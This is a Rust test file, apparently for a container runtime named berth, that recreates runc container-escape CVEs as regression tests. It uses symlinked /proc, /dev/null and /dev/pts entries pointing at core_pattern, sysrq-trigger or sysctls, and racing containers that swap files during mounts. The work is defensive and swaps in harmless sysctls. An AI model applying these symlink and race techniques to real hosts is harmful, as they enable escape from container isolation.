    let evil = dir_in(&v, "evil");
    for d in ["level1/level2", "level1~/level2"] {
        fs::create_dir_all(evil.join(d)).unwrap();
    }
    r.edit(|c| bind(c, &evil, "/evil"));
    let racer = Racer::start(&mut r, &evil, "/evil", &[("/evil/level1", "/evil/level1~")]);
    fs::remove_dir(v.rootfs().join("proc")).unwrap();
    symlink("/evil/level1/level2", v.rootfs().join("proc"));
    let host_before = host_mounts();
    let b = v.bundle.to_string_lossy().into_owned();
    // The volume after /proc (Docker's order), then before it, so the
    // symlink leads somewhere when procfs is mounted.
    for first in [false, true] {
        v.args(&["sleep", "1000"]).edit(|c| {
            c["mounts"]
                .as_array_mut()
                .unwrap()
                .retain(|m| m["destination"] != "/evil");
            if first {
                bind_first(c, &evil, "/evil");
            } else {
                bind(c, &evil, "/evil");
            }
        });
        for n in 0..ATTEMPTS / 2 {
            let id = v.id(&format!("{first}{n}"));
            let out = v.berth(&["create", "--bundle", &b, &id]);
            let err = String::from_utf8_lossy(&out.stderr).into_owned();
            if out.status.success() {
                let pid = init_pid(&v, &id);
                v.reap_later(pid);
                panic!(
                    "CVE-2023-27561: create with /proc -> /evil/level1/level2 \
                     (a raced volume) succeeded; proc and sysfs mounts: {:?}",
                    kernel_fs_mounts(pid)
                );
            }
            assert!(
                err.contains("ordinary directory") && err.contains("/proc"),
                "CVE-2023-27561: attempt {n}: /proc -> /evil/level1/level2 got \
                 past the /proc check (procfs was mounted through it; create \
                 failed only later): {err}"
            );
            v.assert_gone(&id);
        }
    }
    assert!(racer.stop() > 0);
    assert_host_mounts(&host_before, &[&v.dir, &r.dir], "after the race");
    for d in ["level1/level2", "level1~/level2"] {
        assert_eq!(
            fs::read_dir(evil.join(d)).unwrap().count(),
            0,
            "{d} was written"
        );
    }
}

#[test]
fn cve_2023_28642_proc_and_sys_symlinks_are_refused() {
    let mut c = Ctx::new("c28642");
    let root = c.rootfs();
    fs::create_dir(root.join("bad-dir")).unwrap();
    symlink("/bad-dir", root.join("chain"));
    let host_before = host_mounts();
    let targets = [
        "/symlink",
        "/bad-dir",
        "bad-dir",
        "./bad-dir/../bad-dir",
        "/chain",
        "/proc/../bad-dir",
    ];
    let b = c.bundle.to_string_lossy().into_owned();
    c.args(&["sleep", "1000"]);
    for dir in ["proc", "sys"] {
        let real = root.join(dir);
        fs::rename(&real, root.join(format!("{dir}.real"))).unwrap();
        for (n, t) in targets.iter().enumerate() {
            symlink(t, &real);
            let id = c.id(&format!("{dir}{n}"));
            let out = c.berth(&["create", "--bundle", &b, &id]);
            let err = String::from_utf8_lossy(&out.stderr).into_owned();
            if out.status.success() {
                let pid = init_pid(&c, &id);
                c.reap_later(pid);
                panic!(
                    "CVE-2023-28642: create with /{dir} -> {t} succeeded; proc \
                     and sysfs mounts: {:?}",
                    kernel_fs_mounts(pid)
                );
            }
            assert!(
                err.contains("ordinary directory") && err.contains(&format!("/{dir}")),
                "/{dir} -> {t}: refused, but not for the symlink: {err}"
            );
            c.assert_gone(&id);
            assert_eq!(fs::read_dir(root.join("bad-dir")).unwrap().count(), 0);
        }
        fs::remove_file(&real).unwrap();
        fs::rename(root.join(format!("{dir}.real")), &real).unwrap();
    }
    assert_host_mounts(&host_before, &[&c.dir], "after the symlinks");
}

#[test]
fn cve_2023_27561_proc_swapped_for_a_symlink_after_the_check_stays_in_place() {
    // The race one step closer: /proc is an ordinary directory when berth
    // checks it, and a symlink when it mounts, swapped by a container that
    // can write the victim's root directory (its rootfs is that
    // container's volume). procfs must still land on /proc, or nowhere.
    let mut r = Ctx::new("c27561sw-r");
    let mut v = Ctx::new("c27561sw-v");
    let root = v.rootfs();
    fs::create_dir(root.join("decoy")).unwrap();
    symlink("/decoy", root.join("proc.swap"));
    r.edit(|c| bind(c, &root, "/victim"));
    let racer = Racer::start(
        &mut r,
        &root,
        "/victim",
        &[("/victim/proc", "/victim/proc.swap")],
    );
    v.args(&["sleep", "1000"]);
    let host_before = host_mounts();
    let b = v.bundle.to_string_lossy().into_owned();
    let (mut made, mut refused, mut renamed) = (0, 0, 0);
    // The window is two openat2 calls wide, and RESOLVE_IN_ROOT fails
    // with EAGAIN (which berth does not retry) while renames go on: one
    // attempt in about fifty lands in it, so many are made.
    for n in 0..ATTEMPTS * 10 {
        let id = v.id(&format!("a{n}"));
        let out = v.berth(&["create", "--bundle", &b, &id]);
        if out.status.success() {
            made += 1;
            let pid = init_pid(&v, &id);
            v.reap_later(pid);
            for (mp, fstype) in kernel_fs_mounts(pid) {
                // The directory procfs was mounted on may be renamed by the
                // racer afterwards (a mount follows its directory, in any
                // namespace): it is then /proc.swap. No runtime can stop
                // that rename; what it must never do is mount through the
                // symlink it found a directory in its place when it checked.
                assert!(
                    !mp.starts_with("/decoy"),
                    "CVE-2023-27561: attempt {n}: {fstype} is mounted at {mp}, \
                     where the /proc symlink swapped in after berth's check \
                     leads: out of reach of the masks and read-only paths of /proc"
                );
                renamed += usize::from(mp.starts_with("/proc.swap"));
            }
        } else {
            refused += 1;
        }
        v.ok(&["delete", "--force", &id]);
        v.assert_gone(&id);
    }
    let swaps = racer.stop();
    assert!(swaps > 0, "the racer never swapped");
    assert_host_mounts(&host_before, &[&v.dir, &r.dir], "after the race");
    eprintln!("{made} made ({renamed} renamed after the mount), {refused} refused, {swaps} swaps");
}

// ---------------------------------------------------------------------------
// CVE-2025-31133: the container's /dev/null, used to mask files
// ---------------------------------------------------------------------------
//
// runc's advisory GHSA-9493-h29p-rfm2: files in maskedPaths are masked by
// bind-mounting the container's /dev/null over them. When /dev is not made
// by the runtime (a bind mount, shared with a racing container), /dev/null
// can be a symlink: runc then bind-mounted whatever it led to -- inside
// the container, after pivot_root, so /proc/sys/kernel/core_pattern or
// /proc/sysrq-trigger -- writable, over the masked path (an arbitrary mount
// gadget, a container escape through core_pattern); and a /dev/null that
// is missing left the paths unmasked. runc's fix opens /dev/null once,
// checks it is the character device 1:3, and mounts that fd.
//
// The stand-in for core_pattern here is fs.lease-break-time: global like
// it, harmless to change, and put back by a guard.

impl Sentinel {
    /// Records a change made by an attack (and puts the value back, so
    /// the next attempt is judged on its own).
    fn check(&self, when: &str, escapes: &mut Vec<String>) {
        let now = self.value();
        if now.trim() != self.before.trim() {
            escapes.push(format!(
                "{when}: the host's {} was changed from {} to {}",
                self.path.display(),
                self.before.trim(),
                now.trim()
            ));
            let _ = fs::write(&self.path, self.before.trim());
        }
    }
}

/// Masked files of a container that are not /dev/null.
fn unmasked(pid: i32, files: &[&str], when: &str, escapes: &mut Vec<String>) {
    for f in files {
        if let Some(k) = kind_in(pid, f) {
            if k != "char 1:3" {
                escapes.push(format!("{when}: the masked {f} is {k}, not /dev/null"));
            }
        }
    }
}

#[test]
fn cve_2025_31133_a_replaced_dev_null_never_unmasks_or_exposes_proc_files() {
    let sentinel = Sentinel::new("fs.lease-break-time");
    let mut r = Ctx::new("c31133-r");
    let mut c = Ctx::new("c31133");
    install_probe(&c.rootfs());
    let dev = dir_in(&c, "dev");
    for d in ["pts", "shm", "mqueue"] {
        fs::create_dir_all(dev.join(d)).unwrap();
    }
    let masked_files = [
        "/proc/kcore",
        "/proc/keys",
        "/proc/timer_list",
        "/proc/sched_debug",
        "/proc/latency_stats",
        "/proc/timer_stats",
    ];
    let write_all: Vec<String> = masked_files
        .iter()
        .map(|f| format!("/bin/cve-probe write {f} 41"))
        .collect();
    let null = dev.join("null");
    let set_null = |kind: &str| {
        let _ = fs::remove_file(&null);
        match kind {
            "sysctl" => symlink("/proc/sys/fs/lease-break-time", &null),
            "sysrq" => symlink("/proc/sysrq-trigger", &null),
            "core_pattern" => symlink("/proc/sys/kernel/core_pattern", &null),
            "file" => fs::write(&null, "not /dev/null\n").unwrap(),
            "zero" => mknod(
                &null,
                SFlag::S_IFCHR,
                Mode::from_bits_truncate(0o666),
                makedev(1, 5),
            )
            .unwrap(),
            "null" => mknod(
                &null,
                SFlag::S_IFCHR,
                Mode::from_bits_truncate(0o666),
                makedev(1, 3),
            )
            .unwrap(),
            _ => {} // missing
        }
    };
    c.edit(|v| {
        replace_mount(
            v,
            "/dev",
            json!({"destination": "/dev", "type": "bind", "source": dev, "options": ["rbind", "rw"]}),
        );
        v["linux"]["maskedPaths"]
            .as_array_mut()
            .unwrap()
            .extend(masked_files.iter().map(|f| json!(f)));
    });
    let host_before = host_mounts();
    let b = c.bundle.to_string_lossy().into_owned();
    let mut escapes = Vec::new();
    // Creates, checks the masks from outside, starts the container (which
    // writes to the masked files when `write`), checks the sysctl.
    let attempt =
        |c: &mut Ctx, suffix: &str, what: &str, write: bool, escapes: &mut Vec<String>| {
            let script = if write {
                format!("{}; exec sleep 1000", write_all.join("; "))
            } else {
                "exec sleep 1000".to_string()
            };
            c.args(&["sh", "-c", &script]);
            let id = c.id(suffix);
            let out = c.berth(&["create", "--bundle", &b, &id]);
            if out.status.success() {
                let pid = init_pid(c, &id);
                c.reap_later(pid);
                unmasked(pid, &masked_files, what, escapes);
                c.ok(&["start", &id]);
                wait_until("the container to write", || execd(pid, "sleep"));
            }
            sentinel.check(what, escapes);
            c.ok(&["delete", "--force", &id]);
            c.assert_gone(&id);
            out.status.success()
        };
    // Every shape of a bad /dev/null. Only the sysctl is written to from
    // inside: sysrq-trigger and core_pattern would be harmful to reach.
    for (n, (kind, write)) in [
        ("sysctl", true),
        ("sysrq", false),
        ("core_pattern", false),
        ("file", false),
        ("zero", false),
        ("missing", false),
    ]
    .into_iter()
    .enumerate()
    {
        set_null(kind);
        let what = format!("CVE-2025-31133: /dev/null is {kind}");
        attempt(&mut c, &format!("p{n}"), &what, write, &mut escapes);
    }

    // The race of the advisory: /dev is shared with a container that swaps
    // a real /dev/null and a symlink to the sysctl all the time.
    set_null("null");
    symlink("/proc/sys/fs/lease-break-time", dev.join("null.swap"));
    r.edit(|v| bind(v, &dev, "/shared-dev"));
    let racer = Racer::start(
        &mut r,
        &dev,
        "/shared-dev",
        &[("/shared-dev/null", "/shared-dev/null.swap")],
    );
    let raced_before = escapes.len();
    for n in 0..ATTEMPTS {
        let what = format!("CVE-2025-31133: /dev/null raced, attempt {n}");
        attempt(&mut c, &format!("r{n}"), &what, true, &mut escapes);
        if escapes.len() > raced_before {
            break;
        }
    }
    assert!(racer.stop() > 0);
    assert_host_mounts(&host_before, &[&c.dir, &r.dir], "after the attacks");
    assert!(
        escapes.is_empty(),
        "berth bind-mounted the container's /dev/null over masked paths \
         without checking it is the device 1:3:\n{}",
        escapes.join("\n")
    );
    sentinel.assert_unchanged("after the attacks");
}

// ---------------------------------------------------------------------------
// CVE-2025-52565: the /dev/console bind mount
// ---------------------------------------------------------------------------
//
// runc's advisory GHSA-qw9x-cqr3-wc7r: runc opened the pty's peer by its
// path, /dev/pts/$n inside the container, and bind-mounted that path onto
// /dev/console; with /dev/pts/$n a symlink (a /dev/pts the attacker
// controls), /proc/sys/kernel/core_pattern or /proc/sysrq-trigger ended up
// writable at /dev/console. runc's fix: the peer from TIOCGPTPEER, never a
// path, and /dev/console made with O_NOFOLLOW.

#[test]
fn cve_2025_52565_dev_console_is_always_the_pty() {
    let sentinel = Sentinel::new("kernel.printk_ratelimit_burst");
    let mut r = Ctx::new("c52565-r");
    let mut c = Ctx::new("c52565");
    let pts = dir_in(&c, "pts");
    for n in 0..16 {
        symlink(
            "/proc/sys/kernel/printk_ratelimit_burst",
            pts.join(n.to_string()),
        );
        symlink("/proc/sysrq-trigger", pts.join(format!("{n}.swap")));
    }
    let pairs: Vec<(String, String)> = (0..16)
        .map(|n| (format!("/pts/{n}"), format!("/pts/{n}.swap")))
        .collect();
    let pairs_ref: Vec<(&str, &str)> = pairs
        .iter()
        .map(|(a, b)| (a.as_str(), b.as_str()))
        .collect();
    r.edit(|v| bind(v, &pts, "/pts"));
    let racer = Racer::start(&mut r, &pts, "/pts", &pairs_ref);
    let sock = c.dir.join("console.sock");
    let listener = UnixListener::bind(&sock).unwrap();
    let s = sock.to_string_lossy().into_owned();
    let b = c.bundle.to_string_lossy().into_owned();
    c.args(&["sleep", "1000"]).edit(|v| {
        v["process"]["terminal"] = json!(true);
        replace_mount(
            v,
            "/dev/pts",
            json!({"destination": "/dev/pts", "type": "bind", "source": pts, "options": ["rbind", "rw"]}),
        );
    });
    let host_before = host_mounts();
    // ptmx: a symlink to the sysctl, a loop back to /dev/ptmx, absent.
    let ptmx = pts.join("ptmx");
    let shapes: [(&str, Option<&str>); 3] = [
        (
            "to a sysctl",
            Some("/proc/sys/kernel/printk_ratelimit_burst"),
        ),
        ("to /dev/ptmx", Some("/dev/ptmx")),
        ("absent", None),
    ];
    for (i, (what, target)) in shapes.into_iter().enumerate() {
        let _ = fs::remove_file(&ptmx);
        if let Some(t) = target {
            symlink(t, &ptmx);
        }
        for n in 0..ATTEMPTS / 4 {
            let id = c.id(&format!("s{i}a{n}"));
            let out = c.berth(&["create", "--bundle", &b, "--console-socket", &s, &id]);
            if out.status.success() {
                let (_conn, _) = listener.accept().unwrap();
                let pid = init_pid(&c, &id);
                c.reap_later(pid);
                let k = kind_in(pid, "/dev/console").unwrap_or_default();
                let pty = k
                    .strip_prefix("char ")
                    .and_then(|d| d.split(':').next()?.parse::<u64>().ok())
                    .is_some_and(|m| (136..=143).contains(&m));
                assert!(
                    pty,
                    "CVE-2025-52565: ptmx {what}, attempt {n}: /dev/console of the \
                     container is {k}, not a pty"
                );
                let fd0 = fs::metadata(format!("/proc/{pid}/fd/0")).unwrap();
                assert!(
                    fd0.file_type().is_char_device() && (136..=143).contains(&major(fd0.rdev())),
                    "the container's stdin is not a pty: {fd0:?}"
                );
            }
            c.ok(&["delete", "--force", &id]);
            c.assert_gone(&id);
        }
    }
    assert!(racer.stop() > 0);
    assert_host_mounts(&host_before, &[&c.dir, &r.dir], "after the attacks");
    sentinel.assert_unchanged("CVE-2025-52565");
}

// ---------------------------------------------------------------------------
// CVE-2025-52881: the runtime's writes to /proc redirected
// ---------------------------------------------------------------------------
//
// runc's advisory GHSA-cgrx-mc8f-2prm: every write runc made to /proc
// after pivot_root (AppArmor and SELinux labels, sysctls...) went through
// the container's /proc, where a mount of a volume shared with a racing
// container -- symlinks in a tmpfs -- could send it to another procfs file:
// /proc/sys/kernel/core_pattern (a host escape) or /proc/sysrq-trigger.
// runc's fix writes through a private procfs handle opened safely, and
// mounts through fds rather than /proc/self/fd paths. berth writes sysctls
// to /proc/sys/... and oom_score_adj to /proc/self/oom_score_adj by path,
// and mounts masks and read-only paths on /proc/self/fd/N.
//
// The stand-ins for core_pattern are kernel.printk_ratelimit and
// vm.stat_interval: global, harmless, put back by guards.

#[test]
fn cve_2025_52881_sysctl_writes_never_follow_a_volume_out_of_their_namespace() {
    let sentinel = Sentinel::new("kernel.printk_ratelimit");
    let mut r = Ctx::new("c52881s-r");
    let mut c = Ctx::new("c52881s");
    let vol = dir_in(&c, "vol");
    let host_before = host_mounts();
    let mut escapes = Vec::new();
    // A value the real ip_default_ttl takes, and the stand-in too.
    c.args(&["true"])
        .edit(|v| v["linux"]["sysctl"] = json!({"net.ipv4.ip_default_ttl": "37"}));

    // 1. The volume over /proc/sys/net/ipv4 holds a symlink at the key.
    symlink(
        "/proc/sys/kernel/printk_ratelimit",
        vol.join("ip_default_ttl"),
    );
    c.edit(|v| bind(v, &vol, "/proc/sys/net/ipv4"));
    let (code, out, err) = c.run("placed");
    sentinel.check(
        &format!(
            "net.ipv4.ip_default_ttl=37, a volume at /proc/sys/net/ipv4 holding \
             ip_default_ttl -> /proc/sys/kernel/printk_ratelimit (run exited {code}: {out}{err})"
        ),
        &mut escapes,
    );

    // 2. The same volume, raced: a container swaps a plain file and the
    // symlink all the time.
    fs::remove_file(vol.join("ip_default_ttl")).unwrap();
    fs::write(vol.join("ip_default_ttl"), "64\n").unwrap();
    symlink(
        "/proc/sys/kernel/printk_ratelimit",
        vol.join("ip_default_ttl.swap"),
    );
    r.edit(|v| bind(v, &vol, "/vol"));
    let racer = Racer::start(
        &mut r,
        &vol,
        "/vol",
        &[("/vol/ip_default_ttl", "/vol/ip_default_ttl.swap")],
    );
    for n in 0..ATTEMPTS {
        let (code, out, err) = c.run(&format!("raced{n}"));
        let before = escapes.len();
        sentinel.check(
            &format!("the same, raced, attempt {n} (run exited {code}: {out}{err})"),
            &mut escapes,
        );
        if escapes.len() > before {
            break;
        }
    }
    assert!(racer.stop() > 0);

    // 3. No procfs at /proc: the image's /proc directory holds the symlink
    // (proc is mounted elsewhere).
    c.edit(|v| {
        v["mounts"]
            .as_array_mut()
            .unwrap()
            .retain(|m| m["destination"] != "/proc/sys/net/ipv4");
        replace_mount(
            v,
            "/proc",
            json!({"destination": "/kproc", "type": "proc", "source": "proc"}),
        );
        v["linux"]["maskedPaths"] = json!([]);
        v["linux"]["readonlyPaths"] = json!([]);
    });
    let fake = c.rootfs().join("proc/sys/net/ipv4");
    fs::create_dir_all(&fake).unwrap();
    symlink(
        "/kproc/sys/kernel/printk_ratelimit",
        fake.join("ip_default_ttl"),
    );
    let (code, out, err) = c.run("fakeproc");
    sentinel.check(
        &format!(
            "the image's /proc (no procfs there) holding sys/net/ipv4/ip_default_ttl \
             -> /kproc/sys/kernel/printk_ratelimit (run exited {code}: {out}{err})"
        ),
        &mut escapes,
    );
    assert_host_mounts(&host_before, &[&c.dir, &r.dir], "after the attacks");
    assert!(
        escapes.is_empty(),
        "CVE-2025-52881: berth's sysctl write followed a symlink out of the \
         container's network namespace to a global sysctl:\n{}",
        escapes.join("\n")
    );
    sentinel.assert_unchanged("after the attacks");
}

#[test]
fn cve_2025_52881_proc_self_under_a_volume_redirects_no_write_and_no_mount() {
    // berth writes /proc/self/oom_score_adj and mounts masks and read-only
    // paths on /proc/self/fd/N after pivot_root: a volume mounted over
    // /proc/self (that is, /proc/1) or /proc/self/fd decides where those
    // paths lead. Each shape is tried with the base config's masks and
    // read-only paths, and without them (an "unmasked" /proc, as a
    // privileged pod asks for, or masks of files only).
    let sentinel = Sentinel::new("vm.stat_interval");
    let mut c = Ctx::new("c52881p");
    install_probe(&c.rootfs());
    fs::write(c.rootfs().join("decoy"), "decoy\n").unwrap();
    let host_before = host_mounts();
    let self_vol = dir_in(&c, "self");
    symlink("/proc/sys/vm/stat_interval", self_vol.join("oom_score_adj"));
    let fd_vol = dir_in(&c, "fd");
    for n in 0..256 {
        symlink("/decoy", fd_vol.join(n.to_string()));
    }
    let base = base_config();
    let file_masks = json!([
        "/proc/kcore",
        "/proc/keys",
        "/proc/timer_list",
        "/proc/sched_debug"
    ]);
    let variants = [
        (
            "oom, base config",
            "/proc/self",
            true,
            base["linux"]["maskedPaths"].clone(),
            base["linux"]["readonlyPaths"].clone(),
            true,
        ),
        (
            "oom, unmasked",
            "/proc/self",
            true,
            json!([]),
            json!([]),
            false,
        ),
        (
            "masks, base config",
            "/proc/self/fd",
            false,
            base["linux"]["maskedPaths"].clone(),
            base["linux"]["readonlyPaths"].clone(),
            true,
        ),
        (
            "masks, of files only",
            "/proc/self/fd",
            false,
            file_masks,
            json!([]),
            true,
        ),
    ];
    let b = c.bundle.to_string_lossy().into_owned();
    let mut escapes = Vec::new();
    for (n, (what, dest, oom, masked, ro, ro_root)) in variants.into_iter().enumerate() {
        let vol = if oom { &self_vol } else { &fd_vol };
        c.args(&[
            "sh",
            "-c",
            "/bin/cve-probe can-write /proc/sysrq-trigger /proc/sys/vm/stat_interval /proc/sys/kernel/core_pattern; exec sleep 1000",
        ])
        .edit(|v| {
            v["mounts"].as_array_mut().unwrap().retain(|m| !m["destination"].as_str().unwrap().starts_with("/proc/self"));
            bind(v, vol, dest);
            if oom {
                v["process"]["oomScoreAdj"] = json!(37);
            } else {
                v["process"].as_object_mut().unwrap().remove("oomScoreAdj");
            }
            v["linux"]["maskedPaths"] = masked.clone();
            v["linux"]["readonlyPaths"] = ro.clone();
            v["root"]["readonly"] = json!(ro_root);
        });
        let (o, e) = (
            c.dir.join(format!("v{n}.out")),
            c.dir.join(format!("v{n}.err")),
        );
        let id = c.id(&format!("v{n}"));
        let mut cmd = c.cmd(&["create", "--bundle", &b, &id]);
        cmd.stdout(fs::File::create(&o).unwrap())
            .stderr(fs::File::create(&e).unwrap());
        let created = cmd.status().unwrap().success();
        sentinel.check(&format!("{what}: oomScoreAdj 37"), &mut escapes);
        if created {
            let pid = init_pid(&c, &id);
            c.reap_later(pid);
            for f in masked.as_array().unwrap().iter().filter_map(|f| f.as_str()) {
                match kind_in(pid, f) {
                    Some(k) if k != "char 1:3" && k != "dir" => {
                        escapes.push(format!("{what}: the masked {f} is {k}, not /dev/null"))
                    }
                    _ => {}
                }
            }
            c.ok(&["start", &id]);
            wait_until("the probe to run", || execd(pid, "sleep"));
            let log = text(&o);
            for l in granted(&log) {
                if !ro.as_array().unwrap().is_empty() {
                    escapes.push(format!("{what}: read-only paths left writable: {l}"));
                }
            }
        } else {
            eprintln!("{what}: refused: {}", text(&e).trim());
        }
        c.ok(&["delete", "--force", &id]);
        c.assert_gone(&id);
    }
    assert_host_mounts(&host_before, &[&c.dir], "after the attacks");
    assert!(
        escapes.is_empty(),
        "CVE-2025-52881: with a volume over /proc/self or /proc/self/fd, \
         berth's procfs writes and mounts went where the volume's symlinks \
         lead:\n{}",
        escapes.join("\n")
    );
    sentinel.assert_unchanged("after the attacks");
}
